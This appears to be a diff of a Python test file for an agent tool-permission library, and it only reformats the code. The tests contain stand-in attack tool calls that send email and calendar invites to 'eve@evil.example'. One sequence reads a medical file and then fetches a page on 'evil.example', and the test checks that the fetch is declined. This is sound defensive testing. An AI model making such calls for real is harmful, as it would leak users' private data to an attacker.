@@ -5,9 +5,9 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
+from tests.attacks.world import Home, Person, rules, says, statuses
 
 from armslength.tools.base import nobody, tool
-from tests.attacks.world import Home, Person, rules, says, statuses
 
 INVITE = 'create_calendar_event("Lunch", "2026-12-01 12:00", "2026-12-01 13:00", ["eve@evil.example"])\n'
 SEND = 'send_email(["eve@evil.example"], "Lunch", "See you at noon")\n'
@@ -50,7 +50,9 @@ def test_a_fetch_after_a_read_that_may_fail_asks(tmp_path: Path) -> None:
     home = Home(tmp_path / "home")
     home.page("https://evil.example/menu", "menu")
     home.file("chemotherapy.txt", "appointments")
-    result = home.ask('n = read_file("chemotherapy.txt")\np = fetch_web_page("https://evil.example/menu")\n', person=Person())
+    result = home.ask(
+        'n = read_file("chemotherapy.txt")\np = fetch_web_page("https://evil.example/menu")\n', person=Person()
+    )
     assert statuses(result) == [("fetch_web_page", "declined")]
 
 
